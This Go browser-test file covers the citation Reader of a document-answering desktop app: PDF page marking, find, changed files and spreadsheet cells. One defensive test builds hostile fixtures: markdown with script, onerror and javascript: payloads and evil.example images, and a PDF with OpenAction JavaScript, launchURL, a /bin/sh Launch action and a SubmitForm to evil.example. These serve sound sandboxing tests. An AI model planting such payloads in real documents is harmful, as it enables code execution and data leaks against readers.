//go:build browser

package desktop

import (
	"archive/zip"
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"referent/inference"
	"referent/inference/fake"
)

// heatingManual copies the sample manual, a PDF of A5 pages, into the folder.
func (w *world) heatingManual(t *testing.T) {
	t.Helper()
	body, err := os.ReadFile(filepath.Join("..", "..", "testdata", "library", "heating-manual.pdf"))
	if err != nil {
		t.Fatal(err)
	}
	w.write(t, "heating-manual.pdf", string(body))
}

// Becomes waits until a script on the page gives a value.
func (w *world) Becomes(what, script string, want any) {
	w.t.Helper()
	var got any
	for end := time.Now().Add(30 * time.Second); time.Now().Before(end); { // a guard against a hang
		if got = w.Evaluate(script); fmt.Sprint(got) == fmt.Sprint(want) {
			return
		}
		w.Evaluate(`new Promise((done) => setTimeout(done, 50))`)
	}
	w.picture("failed-" + strings.ReplaceAll(w.t.Name(), "/", "-"))
	w.t.Fatalf("%s: %v, not %v", what, got, want)
}

// underTheMarks gives the words of the page that lie below a kind of box.
func underTheMarks(box string) string {
	return `(() => {
		const boxes = [...document.querySelectorAll('.page .` + box + `')].map((e) => e.getBoundingClientRect());
		const within = (r) => boxes.some((b) => r.x + r.width / 2 > b.x && r.x + r.width / 2 < b.right && r.y + r.height / 2 > b.y && r.y + r.height / 2 < b.bottom);
		let out = '';
		for (const span of document.querySelectorAll('.page .words span')) {
			const node = span.firstChild;
			for (let i = 0; node && i < node.textContent.length; i++) {
				const range = document.createRange();
				range.setStart(node, i);
				range.setEnd(node, i + 1);
				if (within(range.getBoundingClientRect())) out += node.textContent[i];
			}
			if (out && !out.endsWith(' ')) out += ' ';
		}
		return out.replace(/\s+/g, ' ').trim();
	})()`
}

// OpenCitation opens a citation of the last answer in the Reader.
func (w *world) OpenCitation(n int) {
	w.t.Helper()
	w.Becomes("the focus on the citation", fmt.Sprintf(`(() => {
		const chip = [...document.querySelectorAll('article:not(.paper)')].at(-1).querySelector('button[aria-label^="Citation %d"]');
		chip?.focus();
		return chip !== null && chip === document.activeElement;
	})()`, n), true)
	w.Press("Enter")
	w.SeeRole("complementary", "Reader")
}

const (
	pageShown  = `document.querySelector('input[aria-label="Page number"]')?.value`
	markedPage = `document.querySelector('[data-drawn="true"] .cited')?.closest('[data-page]').dataset.page`
)

func TestBrowser_APDFCitationOpensAtItsPageWithTheCitedWordsMarked(t *testing.T) {
	w := openWorld(t, nil, nil)
	w.heatingManual(t)
	w.AddFolder()
	w.Ask("What is the nominal output of the K-60?")
	w.See("Supported")
	w.OpenCitation(1)
	w.Becomes("the cited words", `(`+underTheMarks("cited")+`).includes('60 kW')`, true)
	w.Becomes("the page in the field", `(`+pageShown+`) === (`+markedPage+`)`, true)
	w.Becomes("the mark is in view", `(() => {
		const box = document.querySelector('.page .cited').getBoundingClientRect();
		const view = document.querySelector('.pages').getBoundingClientRect();
		return box.top >= view.top && box.bottom <= view.bottom;
	})()`, true)
	w.Becomes("the focus is on the mark", `document.activeElement?.dataset.mark`, "1")
	w.picture("reader-pdf-light")
	w.do("theme", element{}, map[string]any{"text": "dark"})
	w.Becomes("dark", `document.documentElement.dataset.theme`, "dark")
	w.picture("reader-pdf-dark")
	w.do("theme", element{}, map[string]any{"text": "light"})

	t.Log("the passage stays marked at every zoom")
	for range 3 {
		w.Press("Control++")
	}
	w.Becomes("the cited words at a larger zoom", `(`+underTheMarks("cited")+`).includes('60 kW')`, true)
	w.Press("Control+0")

	t.Log("its words can be selected")
	w.Becomes("selected words", `(() => {
		const span = [...document.querySelectorAll('.words span')].find((e) => e.textContent.includes('nominal output'));
		if (!span) return '';
		getSelection().selectAllChildren(span);
		return getSelection().toString().includes('nominal output');
	})()`, true)

	t.Log("any page is reached by its number")
	w.Press("g")
	w.do("fill", element{Role: "textbox", Name: "Page number"}, map[string]any{"text": "1"})
	w.Press("Enter")
	w.Becomes("the first page", `document.querySelector('[data-page="1"]')?.dataset.drawn`, "true")
	w.Quiet()
}

func TestBrowser_TheReaderFindsWordsOnEveryPage(t *testing.T) {
	w := openWorld(t, nil, nil)
	w.heatingManual(t)
	w.AddFolder()
	w.Ask("What is the nominal output of the K-60?")
	w.See("Supported")
	w.OpenCitation(1)
	w.Becomes("the marked page is drawn", `document.querySelector('[data-drawn="true"] .cited') !== null`, true)
	w.Press("Control+f")
	w.Type("searchbox", "Find in the document", "IGNITION electrode")
	w.Becomes("the count", `/^\d+ of \d+$/.test(document.querySelector('.find [role=status]').textContent)`, true)
	w.Becomes("the find", `(`+underTheMarks("found.current")+`).toLowerCase()`, "ignition electrode")
	first := w.Evaluate(`document.querySelector('.found.current').closest('[data-page]').dataset.page`)
	w.picture("reader-find")
	w.Press("Enter")
	w.Becomes("the next find", `document.querySelector('.found.current')?.closest('[data-page]').dataset.page !== '`+fmt.Sprint(first)+`'`, true)
	w.Press("Shift+Enter")
	w.Becomes("the find before", `document.querySelector('.found.current')?.closest('[data-page]').dataset.page`, first)
	w.Type("searchbox", "Find in the document", "nowhere to be found")
	w.See("Not found")
	w.Press("Escape")
	w.Gone("searchbox", "Find in the document")
	w.SeeRole("complementary", "Reader")
	w.Press("Escape")
	w.Gone("complementary", "Reader")
	w.Quiet()
}

func TestBrowser_AChangedFileShowsThePassageAsItWas(t *testing.T) {
	w := openWorld(t, nil, nil)
	w.AddFolder()
	w.Ask("When is the laundry of Quay House open?")
	w.See("Supported")
	w.write(t, "quay-house.md", "# Quay House\n\nThe laundry was closed for good.\n")
	if err := w.app.Sync(t.Context(), nil); err != nil {
		t.Fatal(err)
	}
	w.OpenCitation(1)
	w.See("The file has changed since this answer. The stored passage is shown.")
	w.Becomes("the stored words", `document.querySelector('.reader mark')?.textContent.includes('6 in the morning')`, true)
	w.picture("reader-changed")
	w.Click("button", "Show the document as it is now")
	w.Becomes("the words now", `document.querySelector('.reader .paper').innerText.includes('closed for good')`, true)
	w.Click("button", "Close the reader")

	t.Log("and a file that is gone")
	if err := os.Remove(filepath.Join(w.folder, "quay-house.md")); err != nil {
		t.Fatal(err)
	}
	w.OpenCitation(1)
	w.Becomes("the stored words", `document.querySelector('.reader mark')?.textContent.includes('6 in the morning')`, true)
	w.Quiet()
}

func TestBrowser_ASpreadsheetCitationMarksItsCell(t *testing.T) {
	w := openWorld(t, nil, nil)
	w.write(t, "rents.xlsx", workbook(t, "Rents", [][]string{{"House", "Flat", "Rent", "Remark"}, {"Quay House", "2a", "811", "none"},
		{"Linden House", "7c", "746", "pays on the fifteenth of the month"}, {"Mill House", "1b", "693", "none"}}))
	w.AddFolder()
	w.Ask("Which remark stands beside flat 7c of Linden House, rent 746?")
	w.OpenCitation(1)
	w.Becomes("the marked cell", `[...document.querySelectorAll('.reader tr[data-row="3"] td mark')].at(-1)?.textContent`, "pays on the fifteenth of the month")
	w.Becomes("the cells", `[...document.querySelector('.reader tr[data-row="3"]').querySelectorAll('td')].map((cell) => cell.textContent).join('; ')`,
		"Linden House; 7c; 746; pays on the fifteenth of the month")
	w.Becomes("the columns", `[...document.querySelectorAll('.reader .letters th')].map((cell) => cell.textContent).join('')`, "ABCD")
	w.picture("reader-sheet")
	w.Quiet()
}

func TestBrowser_TheNextCitationOpensTheOtherDocument(t *testing.T) {
	host := fake.New(fake.Config{Match: func(role inference.Role, _ inference.GenerateRequest) (fake.Reply, bool) {
		return fake.Reply{Text: "One says this [1]. Another says that [2]."}, role == inference.RoleAnswer
	}})
	w := openWorld(t, host, nil)
	w.heatingManual(t)
	w.AddFolder()
	w.Ask("What is the nominal output of the K-60, and when is the laundry of Quay House open?")
	w.SeeRole("button", "Citation 2")
	w.OpenCitation(1)
	w.Becomes("the first citation", `/^Mark 1 of \d+$/.test(document.querySelector('.tools [role=status]').textContent)`, true)
	w.Becomes("the focus is on the mark", `document.activeElement?.dataset.mark`, "1")
	w.Press("n")
	w.Becomes("the second citation", `/^Mark 2 of \d+$/.test(document.querySelector('.tools [role=status]').textContent)`, true)
	w.Becomes("the focus is on its mark", `document.activeElement?.dataset.mark`, "2")
	w.Press("Shift+N")
	w.Becomes("the first again", `document.activeElement?.dataset.mark`, "1")
	w.Quiet()
}

// What a document holds is drawn or shown as text: nothing loads and nothing runs.
func TestBrowser_ADocumentCannotRunOrReachAnything(t *testing.T) {
	w := openWorld(t, nil, nil)
	w.write(t, "hostile.pdf", hostilePDF())
	w.write(t, "hostile.md", "# Hostile\n\n## Deposit\n\nThe hostile deposit is 4711 euros.\n\n## Attack\n\n<script>window.pwned=1</script> <img src=https://evil.example/x.png onerror=\"window.pwned=1\"> "+
		"[link](javascript:window.pwned=1) ![remote](https://evil.example/y.png) \u202egnp.exe\u202c\n")
	w.AddFolder()
	w.Evaluate(`window.alert = window.confirm = window.prompt = window.open = () => { window.pwned = 1; }; 0`)
	for question, words := range map[string]string{"How high is the hostile deposit?": "4711 euros", "What does the hostile tariff of the annexe cost?": "tariff"} {
		w.Ask(question)
		w.OpenCitation(1)
		w.Becomes("the words of "+question, `document.querySelector('.reader .body')?.innerText.includes('`+words+`') || document.querySelector('.reader .words')?.textContent.includes('`+words+`')`, true)
		w.Becomes("links, pictures, frames and scripts", `document.querySelectorAll('.reader :is(a, img, iframe, object, embed, script, form, link)').length`, 0)
	}
	w.Becomes("the dots of the page take clicks nowhere", `(() => {
		for (const e of document.querySelectorAll('.reader .page *')) e.click?.();
		return window.pwned === undefined && location.pathname === '/';
	})()`, true)
	w.Quiet()
}

// hostilePDF is one page that would run a script, start a program, submit itself
// and open addresses, if something let it.
func hostilePDF() string {
	page := "BT /F1 14 Tf 72 700 Td (The hostile tariff of the annexe is 815 euros.) Tj ET"
	script := "/S /JavaScript /JS (app.alert\\(1\\); window.pwned = 1; app.launchURL\\('https://evil.example/'\\);)"
	objects := []string{
		"<< /Type /Catalog /Pages 2 0 R /OpenAction << " + script + " >> /AA << /WC << " + script + " >> >> /Names << /JavaScript << /Names [(a) << " + script + " >>] >> >> /AcroForm << /Fields [8 0 R] >> >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R 7 0 R 8 0 R] /AA << /O << " + script + " >> >> >>",
		fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(page), page),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (https://evil.example/?document) >> >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /Launch /F (/bin/sh) >> >>",
		"<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [72 600 200 640] /A << /S /SubmitForm /F (https://evil.example/form) >> /AA << /E << " + script + " >> >> >>",
	}
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n")
	var at []int
	for i, o := range objects {
		at = append(at, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, a := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", a)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, start)
	return b.String()
}

// workbook is a spreadsheet of one sheet, its cells as text.
func workbook(t *testing.T, sheet string, rows [][]string) string {
	t.Helper()
	var data strings.Builder
	for i, row := range rows {
		fmt.Fprintf(&data, `<row r="%d">`, i+1)
		for j, cell := range row {
			fmt.Fprintf(&data, `<c r="%c%d" t="inlineStr"><is><t>%s</t></is></c>`, 'A'+j, i+1, cell)
		}
		data.WriteString(`</row>`)
	}
	const (
		main = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"`
		kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
	)
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, part := range [][2]string{
		{"[Content_Types].xml", `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`},
		{"_rels/.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="` + kind + `/officeDocument" Target="xl/workbook.xml"/></Relationships>`},
		{"xl/workbook.xml", `<workbook ` + main + ` xmlns:r="` + kind + `"><sheets><sheet name="` + sheet + `" sheetId="1" r:id="r1"/></sheets></workbook>`},
		{"xl/_rels/workbook.xml.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="` + kind + `/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`},
		{"xl/worksheets/sheet1.xml", `<worksheet ` + main + `><sheetData>` + data.String() + `</sheetData></worksheet>`},
	} {
		f, err := z.Create(part[0])
		if err == nil {
			_, err = f.Write([]byte(part[1]))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}
